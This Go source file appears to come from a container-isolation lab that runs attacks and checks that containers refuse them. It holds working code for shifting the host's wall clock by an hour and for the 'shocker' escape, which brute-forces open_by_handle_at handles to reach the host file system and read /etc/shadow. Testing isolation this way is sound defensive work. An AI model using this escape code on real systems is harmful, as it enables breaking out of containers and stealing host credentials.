package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"time"

	"golang.org/x/sys/unix"

	"mydocker.example/shared/proof"
)

// The full set without a user namespace: the machine itself is within reach.

// clockAttack: no namespace has a wall clock of its own.
var clockAttack = proof.Proof{
	ID:        "clock",
	Dangerous: true, // for a moment this machine's clock is an hour fast
	Attack: &proof.Attack{
		Prepare: watchClock,
		Run: func(a *proof.Attacker) error {
			start(a)
			var now unix.Timespec
			if err := unix.ClockGettime(unix.CLOCK_REALTIME, &now); err != nil {
				return setup(err)
			}
			now.Sec += 3600
			err := unix.ClockSettime(unix.CLOCK_REALTIME, &now)
			a.Saw("clock_settime(CLOCK_REALTIME, in an hour)", answer(err))
			return err
		},
		Without: onTheHost,
		With:    onTheHost,
		Inside:  dockers,
		Errno:   unix.EPERM,
	},
	Judge: func(s *proof.Seen) { s.Equal("fast", "0 min") }, // of the half that came last
}

// watchClock compares the wall clock with the one that cannot be set, and puts it right.
func watchClock(r *proof.Report) (cleanup func(), err error) {
	start := time.Now() // both clocks (time.Time)
	return func() {
		passed := time.Since(start) // by the clock that cannot be set
		right := start.Round(0).Add(passed)
		r.Sawf("fast", "the host: its clock is fast by", "%.0f min", time.Now().Round(0).Sub(right).Minutes())
		spec := unix.NsecToTimespec(right.UnixNano())
		unix.ClockSettime(unix.CLOCK_REALTIME, &spec)
	}, nil
}

// disk is the lab's: a squashfs with the host's files.
const disk = "/dev/vda"

// shocker: one file of the host's in a container opens all of its file system.
var shocker = proof.Proof{
	ID: "shocker",
	Attack: &proof.Attack{
		Run:     openByHandle,
		Without: onTheHost,
		With:    onTheHost,
		Inside: func(*proof.Attacker) error {
			// Behind the new root, which takes capabilities too.
			if err := oneFile(); err != nil {
				return err
			}
			return limit(docker)
		},
		Errno: unix.EPERM,
	},
}

// oneFile makes a root in which there is nothing of the host but one harmless file: after
// clone(2), once. All mounts are in the attacker's own mount namespace, and end with it.
func oneFile() error {
	if _, err := os.Stat("/hostname"); err == nil {
		return nil // Inside has been here
	}
	const host, root = "/mnt", "/tmp"
	if err := errors.Join(
		unix.Mount("", "/", "", unix.MS_REC|unix.MS_PRIVATE, ""),
		unix.Mount(disk, host, "squashfs", unix.MS_RDONLY, ""),
		unix.Mount("tmpfs", root, "tmpfs", 0, ""),
		os.WriteFile(root+"/hostname", nil, 0o600),
		unix.Mount(host+"/etc/hostname", root+"/hostname", "", unix.MS_BIND, ""),
		os.Mkdir(root+"/proc", 0o700),
		unix.Mount("proc", root+"/proc", "proc", 0, ""),
		unix.Chdir(root),
	); err != nil {
		return err
	}
	if err := unix.PivotRoot(".", "."); err != nil {
		return err
	}
	return errors.Join(unix.Unmount(".", unix.MNT_DETACH), unix.Chdir("/"))
}

// openByHandle is the attack program: a file handle is a number of the file system's, and
// not a path that a root could be put before (open_by_handle_at(2)).
func openByHandle(a *proof.Attacker) error {
	if err := setup(oneFile()); err != nil {
		return err
	}
	start(a)
	entries, err := os.ReadDir("/")
	if err != nil {
		return setup(err)
	}
	names := ""
	for _, e := range entries {
		names += "/" + e.Name() + " "
	}
	a.Saw("ls /", names)
	mount, err := os.Open("/hostname") // any file of the file system says which one is meant
	if err != nil {
		return setup(err)
	}
	defer mount.Close()
	var fs unix.Statfs_t
	if err := unix.Fstatfs(int(mount.Fd()), &fs); err != nil {
		return setup(err)
	}
	// Which number has the root? On ext4 it is 2. On squashfs it is the last, or near it.
	for number := uint32(fs.Files); number > 0; number-- {
		// FILEID_INO32_GEN: the number, and a generation, which this file system does not use.
		handle := unix.NewFileHandle(1, binary.NativeEndian.AppendUint64(nil, uint64(number)))
		root, err := unix.OpenByHandleAt(int(mount.Fd()), handle, unix.O_RDONLY|unix.O_DIRECTORY)
		if errors.Is(err, unix.ENOTDIR) || errors.Is(err, unix.ESTALE) {
			continue
		}
		if err != nil {
			a.Saw(fmt.Sprintf("open_by_handle_at(/hostname, number %d)", number), answer(err))
			return err
		}
		text, err := readAt(root, "etc/shadow")
		unix.Close(root)
		if err == nil {
			a.Saw(fmt.Sprintf("open_by_handle_at(/hostname, number %d)", number), "ok")
			a.Saw("openat(that, \"etc/shadow\")", "an entry for "+text)
			return nil
		}
	}
	return errors.New("no number was the root's")
}

// readAt is the first field of a file below an open folder.
func readAt(dir int, path string) (string, error) {
	fd, err := unix.Openat(dir, path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return "", err
	}
	defer unix.Close(fd)
	text := make([]byte, 64)
	n, err := unix.Read(fd, text)
	if err != nil {
		return "", err
	}
	name, _, _ := bytes.Cut(text[:n], []byte(":"))
	return string(name), nil
}
